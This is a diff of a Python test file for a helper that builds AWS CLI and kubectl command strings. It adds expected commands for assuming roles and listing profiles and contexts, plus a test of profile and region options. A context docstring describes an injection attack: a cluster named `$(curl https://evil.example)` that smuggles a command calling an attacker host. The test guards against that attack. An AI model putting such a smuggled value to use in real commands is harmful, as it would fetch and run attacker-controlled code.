@@ -69,6 +69,15 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
         ["aws", "iam", "delete-role-policy", "--role-name", "r", "--policy-name", "{}"],
     ),
     "list_roles": (lambda _: commands.list_roles(), ["aws", "iam", "list-roles", "--query", "Roles[].Arn"]),
+    "assume_role": (
+        commands.assume_role,
+        [
+            *("aws", "sts", "assume-role", "--role-arn", "{}", "--role-session-name", "irsa"),
+            *("--query", "AssumedRoleUser"),
+        ],
+    ),
+    "list_profiles": (lambda _: commands.list_profiles(), ["aws", "configure", "list-profiles"]),
+    "list_contexts": (lambda _: commands.list_contexts(), ["kubectl", "config", "get-contexts"]),
     "wait_for_cluster": (
         lambda value: commands.wait_for_cluster(value, "eu-west-1"),
         ["aws", "eks", "wait", "cluster-active", "--name", "{}", "--region", "eu-west-1"],
@@ -150,6 +159,14 @@ def test_no_shell_finds_a_comment() -> None:
     The attack: a cluster named `$(curl https://evil.example)`, in a comment behind the command.
     """
     assert not [name for name, (call, _) in CALLS.items() if " #" in call("blue")]
+
+
+def test_options_of_an_aws_account_are_left_out_where_they_are_not_known() -> None:
+    """Protects from commands that ask another account or region than the stack."""
+    assert commands.who_am_i() == "aws sts get-caller-identity"
+    assert commands.who_am_i("a b") == "aws sts get-caller-identity --profile 'a b'"
+    listing = "aws eks list-clusters --region eu-central-1 --profile data"
+    assert commands.list_clusters("eu-central-1", "data") == listing
 
 
 def test_zsh_replaces_no_word() -> None:
